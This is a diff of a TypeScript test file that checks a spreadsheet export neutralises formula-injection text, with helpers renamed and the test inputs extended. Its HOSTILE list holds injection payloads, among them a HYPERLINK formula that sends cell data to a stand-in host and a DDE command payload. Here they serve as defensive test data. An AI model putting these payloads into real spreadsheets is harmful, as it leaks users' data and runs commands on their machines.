@@ -4,7 +4,7 @@ import { join } from 'node:path';
 import * as XLSX from 'xlsx';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { emptyLineValues } from '../../src-shared/pallets/fields';
-import { exportToXlsx, isDangerousText, neutraliseCell, type ExportLine } from './export';
+import { couldRunAsFormula, exportToXlsx, neutraliseForCsv, type ExportLine } from './export';
 import { runImport } from './import-pipeline';
 import { writeFixtures, type FixtureName } from './test-fixtures';
 
@@ -16,7 +16,7 @@ beforeAll(() => {
 });
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '＝1+1', "=cmd|' /C calc'!A0"];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00a0\ufeff=1+1', '＝1+1', "=cmd|' /C calc'!A0"];
 
 function readBack(path: string): XLSX.WorkBook {
   return XLSX.read(readFileSync(path), { type: 'buffer', cellFormula: true, dense: true });
@@ -28,12 +28,15 @@ function allCells(ws: XLSX.WorkSheet): XLSX.CellObject[] {
 }
 
 describe('export safety', () => {
-  it('neutralises text that a spreadsheet could run as a formula', () => {
-    for (const s of HOSTILE) expect(neutraliseCell(s)).toBe(`'${s}`);
-    expect(neutraliseCell('Kettle')).toBe('Kettle');
-    expect(neutraliseCell(-5)).toBe(-5);
-    expect(neutraliseCell('')).toBe('');
-    expect(neutraliseCell(null)).toBeNull();
+  it('recognises text that a spreadsheet could run as a formula, after leading whitespace too', () => {
+    for (const s of HOSTILE) {
+      expect(couldRunAsFormula(s)).toBe(true);
+      expect(neutraliseForCsv(s)).toBe(`'${s}`);
+    }
+    expect(neutraliseForCsv('Kettle = 2 pcs')).toBe('Kettle = 2 pcs');
+    expect(couldRunAsFormula(-5)).toBe(false);
+    expect(couldRunAsFormula('')).toBe(false);
+    expect(couldRunAsFormula(null)).toBe(false);
   });
 
   it('round trip: hostile cells in the original columns and the canonical fields come back as inert text', async () => {
@@ -56,13 +59,13 @@ describe('export safety', () => {
       expect(cells.length).toBeGreaterThan(0);
       for (const c of cells) {
         expect(c.f).toBeUndefined();
-        expect(isDangerousText(c.v)).toBe(false);
+        if (typeof c.v === 'string') expect(c.t).toBe('s');
       }
     }
     const aoa = XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Lines as XLSX.WorkSheet, { header: 1, raw: true });
-    expect(aoa[0]?.slice(0, 5)).toEqual(['Source row', "'=Name", 'Qty', 'Price', "'@Note"]);
-    // The original text is still there after the quote, numbers stay numbers.
-    expect(aoa[1]?.slice(0, 4)).toEqual([2, `'${HOSTILE[0]}`, 0, 12.5]);
+    // Texts come back exactly as they were (no apostrophe added), numbers stay numbers.
+    expect(aoa[0]?.slice(0, 5)).toEqual(['Source row', '=Name', 'Qty', 'Price', '@Note']);
+    expect(aoa[1]?.slice(0, 4)).toEqual([2, HOSTILE[0], 0, 12.5]);
   });
 
   it('exports an imported manifest with original columns, canonical fields, score, status and explanation', async () => {
